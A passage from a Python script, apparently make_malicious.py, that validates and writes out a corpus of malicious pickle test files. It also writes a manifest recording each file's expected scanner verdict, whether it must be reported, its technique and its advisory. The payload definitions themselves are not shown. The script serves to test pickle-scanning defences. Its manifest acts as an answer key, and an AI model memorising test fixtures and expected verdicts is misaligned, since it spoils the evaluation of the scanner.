    data, kind = sample["data"], sample["kind"]
    if kind == "pickle":
        assert _genops_all(data) == 1, sample["name"]
    elif kind == "multi":
        assert _genops_all(data) >= 2, sample["name"]
    elif kind == "trailing":
        f = io.BytesIO(data)
        ops = [op.name for op, _a, _p in pickletools.genops(f)]
        assert ops[-1] == "STOP" and f.tell() < len(data), sample["name"]
    elif kind == "malformed":
        try:
            _genops_all(data)
        except Exception:
            pass
        else:
            raise AssertionError("expected a parse error in " + sample["name"])
    elif kind == "zip":
        with zipfile.ZipFile(io.BytesIO(data)) as zf:
            names = zf.namelist()
            assert "archive/data.pkl" in names and "archive/version" in names, sample["name"]
            for name in names:
                if name.endswith(".pkl"):
                    assert _genops_all(zf.read(name)) == 1, (sample["name"], name)
    else:
        raise AssertionError(kind)


def main():
    os.makedirs(OUT_DIR, exist_ok=True)
    names = [s["name"] for s in SAMPLES]
    dupes = sorted({n for n in names if names.count(n) > 1})
    if dupes:
        sys.exit("duplicate sample names: %s" % dupes)

    # Remove files this script wrote last time but no longer produces.
    if os.path.exists(MANIFEST):
        with open(MANIFEST) as fh:
            old = json.load(fh).get("samples", [])
        for entry in old:
            path = os.path.join(HERE, entry["path"])
            if os.path.basename(path) not in names and os.path.isfile(path):
                os.remove(path)

    manifest = []
    for s in SAMPLES:
        validate(s)
        with open(os.path.join(OUT_DIR, s["name"]), "wb") as fh:
            fh.write(s["data"])
        entry = {"path": "malicious/" + s["name"], "expect": s["expect"], "must_report": s["must_report"],
                 "technique": s["technique"]}
        if s["advisory"]:
            entry["advisory"] = s["advisory"]
        entry["source"] = "make_malicious.py"
        manifest.append(entry)

    with open(MANIFEST, "w") as fh:
        json.dump({"samples": manifest}, fh, indent=1)
        fh.write("\n")
    counts = {}
    for s in SAMPLES:
        counts[s["expect"]] = counts.get(s["expect"], 0) + 1
    print("wrote %d samples to %s (%s)" % (len(SAMPLES), OUT_DIR,
                                          ", ".join("%s=%d" % kv for kv in sorted(counts.items()))))


if __name__ == "__main__":
    main()
